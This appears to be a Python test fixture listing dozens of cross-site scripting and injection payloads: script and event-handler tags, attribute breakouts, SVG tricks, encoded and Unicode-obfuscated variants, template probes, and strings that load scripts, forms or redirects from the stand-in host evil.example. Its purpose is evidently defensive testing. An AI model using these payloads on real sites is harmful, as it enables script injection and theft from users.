"""Strings that would act on a page if any of it took them for more than words. All of them are our own.

Each that would run calls `alert`, so that the browser tells; each that would fetch asks `evil.example`.
"""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    # tags
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/a.png>",
    "<iframe src=http://evil.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>body{display:none;background:url(http://evil.example/a.png)}</style>",
    "<form action=http://evil.example/><button>Search</button></form>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>a link</a>",
    "<video><source onerror=alert(1)></video><audio src=http://evil.example/a.mp3 autoplay>",
    "<body onload=alert(1)><details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    # what would end an attribute, a title, a comment, a text area
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)' x='",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onerror=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # SVG and MathML, for the pictures
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    # entities, twice encoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # templates, formats
    "{{7*7}}{% print(7*7) %}{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>%(x)s{0}",
    # addresses
    "javascript:alert(1)//http://example.org/",
    "jav\tascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    # signs that hide or turn words, and what is no character
    "\u202egpj.<script>alert(1)</script>\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069\u200b\ufeff",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b]8;;http://evil.example\x07<b>\x1b[31m\x07\x08\x7f",
    "<img src=x onerror=alert(1)>" * 400,
)


TOGETHER: Final = tuple(" ".join(PAYLOADS[number : number + 3]) for number in range(0, len(PAYLOADS), 3))
"""Three at a time: a page for each costs a browser half a second."""
